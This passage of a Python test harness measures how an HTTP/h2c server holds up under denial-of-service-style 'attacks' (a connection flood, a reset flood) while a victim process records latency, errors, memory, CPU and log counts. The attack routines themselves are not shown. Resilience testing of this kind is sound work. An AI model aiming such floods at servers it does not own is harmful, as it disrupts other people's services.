            continue
    return None


def alive(pid: int) -> bool:
    try:
        with open(f"/proc/{pid}/stat") as fh:
            return fh.read().rsplit(")", 1)[1].split()[0] not in ("Z", "X")
    except OSError:
        return False


class Monitor(threading.Thread):
    """Samples the server's RSS, CPU time and open fds every 0.2 s (Linux /proc)."""

    def __init__(self, pid: int) -> None:
        super().__init__(daemon=True)
        self.pid, self.samples, self.stopped = pid, [], threading.Event()
        self.tick = os.sysconf("SC_CLK_TCK")

    def run(self) -> None:
        while not self.stopped.is_set():
            try:
                with open(f"/proc/{self.pid}/stat") as fh:
                    f = fh.read().rsplit(")", 1)[1].split()
                cpu = (int(f[11]) + int(f[12])) / self.tick
                with open(f"/proc/{self.pid}/status") as fh:
                    rss = next((int(line.split()[1]) for line in fh if line.startswith("VmRSS:")), 0) / 1024
                fds = len(os.listdir(f"/proc/{self.pid}/fd"))
                self.samples.append((time.monotonic(), rss, cpu, fds))
            except (OSError, StopIteration, ValueError):
                pass
            self.stopped.wait(0.2)

    def window(self, t0: float, t1: float) -> dict | None:
        inside = [s for s in self.samples if t0 <= s[0] <= t1]
        before = [s for s in self.samples if s[0] <= t0]
        if not inside:
            return None
        first = before[-1] if before else inside[0]
        return {"rss_mb_start": round(first[1]), "rss_mb_peak": round(max(s[1] for s in inside)),
                "rss_mb_end": round(inside[-1][1]), "cpu_s": round(inside[-1][2] - first[2], 2),
                "fds_peak": max(s[3] for s in inside)}


class LogTail:
    """Counts the server's JSON log lines (requests by status, connections closed by reason,
    warnings and errors) between two offsets of its log file."""

    def __init__(self, path: str | None) -> None:
        self.path = path

    def offset(self) -> int:
        try:
            return os.path.getsize(self.path) if self.path else 0
        except OSError:
            return 0

    def tally(self, start: int, end: int) -> dict[str, int]:
        if not self.path or end <= start:
            return {}
        c: Counter[str] = Counter()
        with open(self.path, "rb") as fh:
            fh.seek(start)
            for raw in fh.read(end - start).splitlines():
                try:
                    line = json.loads(raw)
                except ValueError:
                    continue
                if not isinstance(line, dict):
                    continue
                msg = line.get("msg")
                if msg == "request":
                    c[f"request {line.get('status')}"] += 1
                elif msg == "connection closed":
                    c[f"closed: {line.get('reason')}"] += 1
                elif line.get("level") in ("warn", "error", "fatal"):
                    c[f"{line.get('level')}: {msg}"] += 1
        return dict(c)


# ------------------------------------------------------------------ measuring


def pct(values: list[float], p: float) -> float:
    if not values:
        return float("nan")
    v = sorted(values)
    return v[min(len(v) - 1, max(0, int(round(p / 100 * len(v) + 0.5)) - 1))]


@dataclass
class Phase:
    n: int = 0
    errors: Counter = field(default_factory=Counter)
    lat: list[float] = field(default_factory=list)
    by_kind: dict[str, list[float]] = field(default_factory=dict)

    @property
    def p50(self) -> float:
        return pct(self.lat, 50) * 1000

    @property
    def p99(self) -> float:
        return pct(self.lat, 99) * 1000

    @property
    def max(self) -> float:
        return max(self.lat) * 1000 if self.lat else float("nan")

    def cell(self) -> str:
        return f"{self.n:4d} {sum(self.errors.values()):3d} {self.p50:7.1f} {self.p99:8.1f}"

    def kinds(self) -> str:
        return "; ".join(f"{k} n={len(v)} p50={pct(v, 50) * 1000:.0f} p99={pct(v, 99) * 1000:.0f} ms"
                         for k, v in self.by_kind.items())

    def as_json(self) -> dict:
        return {"n": self.n, "errors": dict(self.errors), "p50_ms": round(self.p50, 2),
                "p99_ms": round(self.p99, 2), "max_ms": round(self.max, 2),
                "by_kind": {k: {"n": len(v), "p50_ms": round(pct(v, 50) * 1000, 2),
                                "p99_ms": round(pct(v, 99) * 1000, 2)} for k, v in self.by_kind.items()}}


def classify(records: list, windows: dict[str, tuple[float, float]]) -> dict[str, Phase]:
    """A call counts in the 'during' window it overlaps at all; otherwise in the window it
    started in ('before', 'after', 'baseline')."""
    phases = {k: Phase() for k in windows}
    for t0, kind, lat, ok, detail in records:
        t1 = t0 + lat
        hit = next((k for k, (a, b) in windows.items() if k.endswith("/during") and t0 < b and t1 > a), None)
        if hit is None:
            hit = next((k for k, (a, b) in windows.items() if a <= t0 < b), None)
        if hit is None:
            continue
        ph = phases[hit]
        ph.n += 1
        ph.lat.append(lat)
        ph.by_kind.setdefault(kind, []).append(lat)
        if not ok:
            ph.errors[f"{kind}: {detail}"] += 1
    return phases


# ------------------------------------------------------------------ main


def parse_args(argv: list[str] | None) -> argparse.Namespace:
    p = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    p.add_argument("--host", default="127.0.0.1")
    p.add_argument("--port", type=int, required=True)
    p.add_argument("--only", default=",".join(ATTACKS), help=f"comma-separated subset of: {', '.join(ATTACKS)}")
    p.add_argument("--json", help="write every number to this file")
    p.add_argument("--pid", type=int, help="the server's pid (default: whoever listens on --port)")
    p.add_argument("--server-log", help="the server's JSON log file, to count what it logged during each attack")
    p.add_argument("--victim-source", help="the victim's source address (default: 127.0.0.2 when --host is "
                   "127.0.0.1, else none); '' for none")
    p.add_argument("--baseline", type=float, default=3.0, help="s of victim-only traffic at the start")
    p.add_argument("--during", type=float, default=6.0, help="s each attack runs (connections: 11 s)")
    p.add_argument("--before", type=float, default=1.0, help="s measured before each attack")
    p.add_argument("--after", type=float, default=2.0, help="s measured after each attack")
    p.add_argument("--victim-timeout", type=float, default=5.0, help="s per victim call; more is an error")
    p.add_argument("--victim-interval", type=float, default=0.02, help="s between victim calls")
    p.add_argument("--p99-bound-ms", type=float, help="fixed bound on the victim's p99 during/after an attack")
    p.add_argument("--p99-factor", type=float, default=20.0, help="default bound: this × the baseline p99 ...")
    p.add_argument("--p99-floor-ms", type=float, default=1000.0, help="... but at least this")
    p.add_argument("--max-victim-errors", type=int, default=0, help="victim errors tolerated in the whole run")
    p.add_argument("--conn-count", type=int, default=2000, help="connections: how many (fd limit permitting)")
    a = p.parse_args(argv)
    if a.victim_source is None:
        a.victim_source = "127.0.0.2" if a.host == "127.0.0.1" else ""
    return a


def wait_ready(base: str, seconds: float) -> bool:
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        try:
            with urllib.request.urlopen(base + "/livez", timeout=2) as r:
                if r.status == 200:
                    return True
        except OSError:
            pass
        time.sleep(0.5)
    return False


def check_victim_source(a: argparse.Namespace) -> str | None:
    """A problem with the victim's source address, or None."""
    if not a.victim_source:
        return None
    try:
        with socket.create_connection((a.host, a.port), timeout=3, source_address=(a.victim_source, 0)):
            return None
    except OSError as e:
        return (f"the victim cannot connect from {a.victim_source}: {e} (pass --victim-source '' to share the "
                f"attacker's address; then run the service with AUTH_FAILURES_PER_ADDRESS=0)")


def fit_fd_limit(a: argparse.Namespace) -> None:
    """Raises this process's soft fd limit for the connections attack, or lowers its count."""
    need = a.conn_count + 256
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    if soft != resource.RLIM_INFINITY and soft < need:
        new = need if hard == resource.RLIM_INFINITY else min(need, hard)
        resource.setrlimit(resource.RLIMIT_NOFILE, (new, hard))
        if new < need:
            a.conn_count = max(100, new - 256)
            print(f"note: fd limit {new}: the connections attack opens {a.conn_count}")


def main(argv: list[str] | None = None) -> int:
    signal.signal(signal.SIGTERM, lambda *_: sys.exit(143))  # the finally blocks stop the victim
    a = parse_args(argv)
    selected = [x.strip() for x in a.only.split(",") if x.strip()]
    unknown = [x for x in selected if x not in ATTACKS]
    if unknown:
        print(f"unknown attack(s): {unknown}; known: {list(ATTACKS)}", file=sys.stderr)
        return 3
    base = f"http://{a.host}:{a.port}"
    if not wait_ready(base, 10):
        print(f"{base}/livez does not answer 200", file=sys.stderr)
        return 3
    problem = check_victim_source(a)
    if problem:
        print(problem, file=sys.stderr)
        return 3
    fit_fd_limit(a)
    pid = a.pid or listener_pid(a.port)
    print(f"server: {base}, pid {pid or 'unknown (liveness from /livez only)'}; "
          f"victim from {a.victim_source or 'the default source address'}", flush=True)
    return run(a, selected, base, pid, LogTail(a.server_log))


def run(a: argparse.Namespace, selected: list[str], base: str, pid: int | None, logs: LogTail) -> int:
    t_run = time.monotonic()
    ctx = Ctx(a.host, a.port)
    monitor = Monitor(pid) if pid else None
    if monitor:
        monitor.start()

    mpc = mp.get_context("spawn")  # the victim shares nothing (not the GIL either) with the attacks
    stop = mpc.Event()
    rx, tx = mpc.Pipe(duplex=False)
    victim = mpc.Process(target=victim_main, args=(base, a.victim_source or None, a.victim_timeout,
                                                   a.victim_interval, stop, tx), daemon=True)
    victim.start()
    time.sleep(1.0)  # the victim's interpreter starts and makes its connections (not measured)

    windows: dict[str, tuple[float, float]] = {}
    results: dict[str, dict] = {}
    died_in = None
    try:
        t = time.monotonic()
        time.sleep(a.baseline)
        windows["baseline"] = (t, time.monotonic())
        for name in selected:
            t0 = time.monotonic()
            time.sleep(a.before)
            t1 = time.monotonic()
            log0 = logs.offset()
            print(f"-- {name} ...", flush=True)
            try:
                tally = run_attack(name, ctx, a)
            except Exception as e:  # noqa: BLE001 - an attack that breaks is reported, the run goes on
                tally = Tally()
                tally.note(f"the attack itself failed: {e!r}")
            t2 = time.monotonic()
            log1 = logs.offset()
            time.sleep(a.after)
            t3 = time.monotonic()
            windows[f"{name}/before"] = (t0, t1)
            windows[f"{name}/during"] = (t1, t2)
            windows[f"{name}/after"] = (t2, t3)
            up = alive(pid) if pid else True
            # Asked from the victim's address: the attacker's may be kept out a while (a reset flood).
            try:
                conn = http.client.HTTPConnection(
                    a.host, a.port, timeout=5,
                    source_address=(a.victim_source, 0) if a.victim_source else None)
                conn.request("GET", "/livez")
                livez = conn.getresponse().status
                conn.close()
            except OSError as e:
                livez = type(e).__name__
            results[name] = {"attack_s": round(t2 - t1, 2), "tally": tally, "process_up": up,
                             "livez_after": livez, "server": monitor.window(t1, t2) if monitor else None,
                             "server_log": logs.tally(log0, log1)}
            if not up or livez != 200:
                died_in = name
                break
        stop.set()
        records = rx.recv() if rx.poll(a.victim_timeout + 10) else []
    finally:
        stop.set()
        victim.join(a.victim_timeout + 5)
        if victim.is_alive():
            victim.kill()
        if monitor:
            monitor.stopped.set()
    return report(a, selected, results, classify(records, windows), died_in, time.monotonic() - t_run)


def report(a: argparse.Namespace, selected: list[str], results: dict, phases: dict[str, Phase],
           died_in: str | None, total_s: float) -> int:
    base = phases["baseline"]
    bound = a.p99_bound_ms if a.p99_bound_ms else max(a.p99_floor_ms, a.p99_factor * base.p99)
    failures: list[str] = []

    print(f"\nvictim: h2c /livez, h2c GetSubscriptions, HTTP/1.1 new-connection /livez, HTTP/1.1 "
          f"GetSubscriptions, in turn, {a.victim_interval * 1000:.0f} ms apart; timeout {a.victim_timeout:.0f}s")
    print(f"baseline: n={base.n} errors={sum(base.errors.values())} p50={base.p50:.1f}ms p99={base.p99:.1f}ms "
          f"max={base.max:.1f}ms -> p99 bound {bound:.0f} ms\n")
    hdr = "  n err  p50 ms   p99 ms"
    print(f"{'attack':<13}{'time s':>7} | {'before':^24} | {'during':^24} | {'after':^24} | {'max ms':>7} | verdict")
    print(f"{'':<13}{'':>7} |{hdr} |{hdr} |{hdr} | {'during':>7} |")
    print("-" * 126)
    for name in selected:
        if name not in results:
            print(f"{name:<13}{'':>7} | not run (the server died earlier)")
            continue
        res = results[name]
        b, d, af = phases[f"{name}/before"], phases[f"{name}/during"], phases[f"{name}/after"]
        why = []
        if not res["process_up"]:
            why.append("PROCESS DIED")
        elif res["livez_after"] != 200:
            why.append(f"/livez after: {res['livez_after']}")
        errs = sum(d.errors.values()) + sum(af.errors.values())  # 'before' errors belong to what came before
        if errs:
            why.append(f"{errs} victim errors")
        if d.p99 > bound:
            why.append(f"p99 during {d.p99:.0f}>{bound:.0f}")
        if af.p99 > bound:
            why.append(f"p99 after {af.p99:.0f}>{bound:.0f}")
        if d.n == 0:
            why.append("no victim call completed during the attack")
        hard = [w for w in why if "victim errors" not in w]
        if hard:
            failures.append(f"{name}: " + "; ".join(hard))
        verdict = "ok" if not why else "FAIL: " + "; ".join(why)
        print(f"{name:<13}{res['attack_s']:7.1f} |{b.cell()} |{d.cell()} |{af.cell()} | {d.max:7.0f} | {verdict}")
    print("-" * 126)

    print("\nhow the server answered each attack:")
    for name in selected:
        if name not in results:
            continue
        res = results[name]
        print(f"\n[{name}] {ATTACKS[name].__doc__}")
        for line in res["tally"].summary():
            print(f"    {line}")
        if res["server"]:
            s = res["server"]
            print(f"    server process during the attack: CPU {s['cpu_s']}s, RSS {s['rss_mb_start']}→"
                  f"{s['rss_mb_peak']} (peak)→{s['rss_mb_end']} MB, open fds peak {s['fds_peak']}")
        if res["server_log"]:
            print("    server log during the attack: "
                  + ", ".join(f"{k}×{v}" for k, v in sorted(res["server_log"].items(), key=lambda kv: -kv[1])))
        print(f"    process up after: {res['process_up']}; GET /livez after: {res['livez_after']}")
        print(f"    victim during, by call: {phases[f'{name}/during'].kinds()}")
        for ph in ("before", "during", "after"):
            e = phases[f"{name}/{ph}"].errors
            if e:
                print(f"    victim errors {ph}: " + ", ".join(f"{k}×{v}" for k, v in e.most_common()))

    total_errors = sum(sum(p.errors.values()) for p in phases.values())
    if total_errors > a.max_victim_errors:
        failures.append(f"the victim saw {total_errors} errors (tolerated: {a.max_victim_errors})")
    print(f"\ntotal time {total_s:.0f}s; victim calls {sum(p.n for p in phases.values())}, errors {total_errors}")

    if a.json:
        with open(a.json, "w") as fh:
            json.dump({"bound_ms": bound, "baseline": base.as_json(), "died_in": died_in, "total_s": round(total_s, 1),
                       "attacks": {n: {**{k: v for k, v in r.items() if k != "tally"}, "tally": r["tally"].as_json(),
                                       **{ph: phases[f"{n}/{ph}"].as_json() for ph in ("before", "during", "after")}}
                                   for n, r in results.items()}}, fh, indent=2)
    if died_in:
        print(f"RESULT: FAIL: the server stopped during {died_in}")
        return 2
    if failures:
        print("RESULT: FAIL\n  " + "\n  ".join(failures))
        return 1
    print("RESULT: PASS")
    return 0


if __name__ == "__main__":
    sys.exit(main())
